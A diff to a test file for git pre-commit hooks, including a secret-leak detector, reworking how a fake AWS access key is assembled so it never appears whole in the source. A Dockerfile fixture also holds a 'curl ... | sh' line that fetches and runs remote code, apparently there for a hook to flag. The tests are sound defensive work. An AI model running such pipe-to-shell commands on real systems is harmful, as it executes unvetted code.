@@ -137,8 +137,8 @@ describe('the pre-commit hooks', { skip: missing('git') }, () => {
     writeFileSync(join(work, 'notes.txt'), 'nothing\n');
     await git('add', 'notes.txt');
     assert.equal(await hook('plimsoll-leaks'), 0);
-    // No key: made of random letters for this test.
-    writeFileSync(join(work, 'notes.txt'), `aws_access_key_id = AKIA${'QYLPMN5HFIQR7XYA'}\n`);
+    // A fake key, of random letters, and in no text as a whole.
+    writeFileSync(join(work, 'notes.txt'), `aws_access_key_id = ${['AKIA', 'QYLPMN5HFIQR7XYA'].join('')}\n`);
     await git('add', 'notes.txt');
     assert.equal(await hook('plimsoll-leaks'), 1);
     writeFileSync(join(work, 'Dockerfile'), 'FROM debian\nRUN curl http://a.example/x | sh\nUSER root\n');
